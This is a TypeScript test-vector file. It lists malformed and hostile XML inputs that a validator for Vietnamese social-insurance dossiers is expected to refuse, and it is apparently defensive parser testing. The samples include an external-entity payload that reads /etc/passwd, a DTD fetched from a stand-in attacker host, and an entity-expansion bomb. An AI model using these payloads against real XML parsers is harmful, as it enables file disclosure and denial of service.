// What is not a document, and what is not an envelope. Refused before, or although, it is signed.
import { both, refused, swap } from './kit.ts';
import type { Vector } from './kit.ts';

const name = 'CÔNG TY TNHH MỘT HAI BA (THỬ NGHIỆM)';

/** The text of the valid dossier, changed after signing. */
function mangled(vector: string, code: Parameters<typeof refused>[1], change: (xml: string) => string | Buffer, note?: string): Vector {
  return refused(vector, code, ({ dossier }) => change(dossier()), note === undefined ? {} : { note });
}

const utf16be = (xml: string): Buffer => Buffer.from(xml, 'utf16le').swap16();
const nested = (depth: number): string => `${'<a>'.repeat(depth)}${'</a>'.repeat(depth)}`;

export const refusedXml: readonly Vector[] = [
  mangled('xml-not-xml', 'XML_MALFORMED', () => 'PK\u0003\u0004 this is no XML'.slice(4)),
  mangled('xml-json', 'XML_MALFORMED', () => '{"Hoso":{"NoiDung":{}}}'),
  mangled('xml-empty-after-bom', 'XML_MALFORMED', () => '\ufeff'),
  mangled('xml-white-space-only', 'XML_MALFORMED', () => ' \r\n\t'),
  mangled('xml-declaration-only', 'XML_MALFORMED', () => '<?xml version="1.0" encoding="utf-8"?>'),
  mangled('xml-truncated', 'XML_MALFORMED', (xml) => xml.slice(0, xml.length * 0.6)),
  mangled('xml-truncated-at-last-character', 'XML_MALFORMED', (xml) => xml.slice(0, -1)),
  mangled('xml-utf16-le', 'XML_ENCODING', (xml) => Buffer.from(`\ufeff${xml}`, 'utf16le')),
  mangled('xml-utf16-be', 'XML_ENCODING', (xml) => utf16be(`\ufeff${xml}`)),
  mangled('xml-utf16-le-without-bom', 'XML_ENCODING', (xml) => Buffer.from(xml, 'utf16le')),
  mangled('xml-utf16-be-without-bom', 'XML_ENCODING', (xml) => utf16be(xml)),
  mangled('xml-declares-latin-1', 'XML_ENCODING', swap('encoding="utf-8"', 'encoding="ISO-8859-1"')),
  mangled('xml-declares-utf-16', 'XML_ENCODING', swap('encoding="utf-8"', 'encoding="UTF-16"')),
  mangled('xml-octets-not-utf-8', 'XML_ENCODING', (xml) => Buffer.from(swap(name, 'CONG TY \u00e9')(xml), 'latin1')),
  mangled('xml-overlong-utf-8', 'XML_ENCODING', (xml) => Buffer.from(swap(name, 'CONG TY \u00c0\u00bc')(xml), 'latin1'), 'an overlong form of "<"'),
  mangled('xml-version-1-1', 'XML_MALFORMED', swap('version="1.0"', 'version="1.1"')),
  mangled('xml-declaration-without-version', 'XML_MALFORMED', swap(' version="1.0"', '')),
  mangled('xml-doctype', 'XML_DOCTYPE', swap('<Hoso', '<!DOCTYPE Hoso><Hoso')),
  mangled('xml-external-entity', 'XML_DOCTYPE', both(swap('<Hoso', '<!DOCTYPE Hoso [<!ENTITY x SYSTEM "file:///etc/passwd">]><Hoso'), swap(name, '&x;'))),
  mangled('xml-external-subset', 'XML_DOCTYPE', swap('<Hoso', '<!DOCTYPE Hoso SYSTEM "http://attacker.example/x.dtd"><Hoso')),
  mangled('xml-entity-bomb', 'XML_DOCTYPE', both(
    swap('<Hoso', '<!DOCTYPE Hoso [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;"><!ENTITY d "&c;&c;&c;&c;&c;&c;&c;&c;">]><Hoso'),
    swap(name, '&d;'),
  )),
  mangled('xml-undefined-entity', 'XML_ENTITY', swap('MỘT HAI', 'MỘT&nbsp;HAI')),
  mangled('xml-processing-instruction', 'XML_PROCESSING_INSTRUCTION', swap('<Hoso', '<?xml-stylesheet href="x.xsl"?><Hoso')),
  mangled('xml-processing-instruction-inside', 'XML_PROCESSING_INSTRUCTION', swap('<NoiDung>', '<NoiDung><?php ?>')),
  mangled('xml-control-character', 'XML_MALFORMED', swap('MỘT HAI', 'MỘT\u0001HAI')),
  mangled('xml-control-character-reference', 'XML_MALFORMED', swap('MỘT HAI', 'MỘT&#1;HAI')),
  mangled('xml-surrogate-reference', 'XML_MALFORMED', swap('MỘT HAI', 'MỘT&#xD800;HAI')),
  mangled('xml-non-character', 'XML_MALFORMED', swap('MỘT HAI', 'MỘT\uffffHAI')),
  mangled('xml-bare-ampersand', 'XML_MALFORMED', swap('MỘT HAI', 'MỘT & HAI')),
  mangled('xml-cdata-end-in-text', 'XML_MALFORMED', swap('MỘT HAI', 'MỘT ]]> HAI')),
  mangled('xml-two-roots', 'XML_MALFORMED', (xml) => `${xml}<Hoso />`),
  mangled('xml-text-after-root', 'XML_MALFORMED', (xml) => `${xml}thừa`),
  mangled('xml-attribute-repeated', 'XML_MALFORMED', swap('<CKy_Dvi>', '<CKy_Dvi a="1" a="2">')),
  mangled('xml-attribute-repeated-by-namespace', 'XML_MALFORMED', swap('<CKy_Dvi>', '<CKy_Dvi xmlns:p="urn:x" xmlns:q="urn:x" p:a="1" q:a="2">')),
  mangled('xml-prefix-unbound', 'XML_MALFORMED', swap('<CKy_Dvi>', '<CKy_Dvi p:a="1">')),
  mangled('xml-prefix-unbound-by-declaration', 'XML_MALFORMED', swap('<CKy_Dvi>', '<CKy_Dvi xmlns:xsi="">')),
  mangled('xml-depth-65', 'XML_LIMIT', swap('<CKy_Dvi>', `<CKy_Dvi>${nested(63)}`)),
  mangled('xml-attributes-65', 'XML_LIMIT', swap('<CKy_Dvi>', `<CKy_Dvi ${Array.from({ length: 65 }, (_none, index) => `a${index}=""`).join(' ')}>`)),
  mangled('xml-name-257', 'XML_LIMIT', swap('<CKy_Dvi>', `<CKy_Dvi><${'a'.repeat(257)}/>`)),

  refused('envelope-root-name', ['ENVELOPE_ROOT'], { spec: 'unsigned', envelope: both(swap('<Hoso ', '<HoSo '), swap('</Hoso>', '</HoSo>')) }),
  refused('envelope-root-is-a-form', ['ENVELOPE_ROOT'], ({ signedForm }) => signedForm(), { note: 'a signed D02-TS sent without its envelope' }),
  refused('envelope-root-in-namespace', ['ENVELOPE_ROOT'], { envelope: swap('<Hoso ', '<Hoso xmlns="urn:x" ') }),
  refused('envelope-root-with-prefix', ['ENVELOPE_ROOT'], { envelope: both(swap('<Hoso ', '<p:Hoso xmlns:p="urn:x" '), swap('</Hoso>', '</p:Hoso>')) }),
  refused('envelope-element-missing', 'ELEMENT_MISSING', { envelope: swap(/<MaSoBHXH>.*?<\/MaSoBHXH>/, '') }),
  refused('envelope-tax-code-missing', 'ELEMENT_MISSING', { envelope: swap(/<MaSoThue>.*?<\/MaSoThue>/, '') }),
  refused('envelope-signature-slot-missing', ['SIGNATURE_MISSING', 'ELEMENT_MISSING'], { spec: 'unsigned', envelope: swap('<CKy_Dvi />', '') }),
  refused('envelope-without-files', ['ELEMENT_MISSING', 'FILE_COUNT', 'FORM_MISSING'], { envelope: swap(/<ToKhais>.*<\/ToKhais>/, '<ToKhais />') }),
  refused('envelope-element-unknown', 'ELEMENT_UNKNOWN', { envelope: swap('<MaSoBHXH>', '<MaSoBHYT>1</MaSoBHYT><MaSoBHXH>') }),
  refused('envelope-element-unknown-case', ['ELEMENT_MISSING', 'ELEMENT_UNKNOWN'], { envelope: both(swap('<MaSoBHXH>', '<MasoBHXH>'), swap('</MaSoBHXH>', '</MasoBHXH>')) }),
  refused('envelope-element-repeated', 'ELEMENT_UNKNOWN', { envelope: swap('<KyKeKhai>', '<KyKeKhai>12/2026</KyKeKhai><KyKeKhai>') }),
  refused('envelope-element-in-namespace', ['ELEMENT_MISSING', 'ELEMENT_UNKNOWN'], { envelope: swap('<MaSoBHXH>', '<MaSoBHXH xmlns="urn:x">') }),
  refused('envelope-attribute-unknown', 'ELEMENT_UNKNOWN', { envelope: swap('<NoiDung>', '<NoiDung loai="1">') }),
  refused('envelope-value-invalid', 'VALUE_INVALID', { envelope: swap('TS12345', 'TS-12345!') }),
  refused('envelope-value-empty', 'VALUE_INVALID', { envelope: swap(/<TenDoiTuong>.*?<\/TenDoiTuong>/, '<TenDoiTuong />') }),
  refused('envelope-value-too-long', 'VALUE_INVALID', { envelope: swap('Lê Thị Mẫu', 'M'.repeat(501)) }),
];
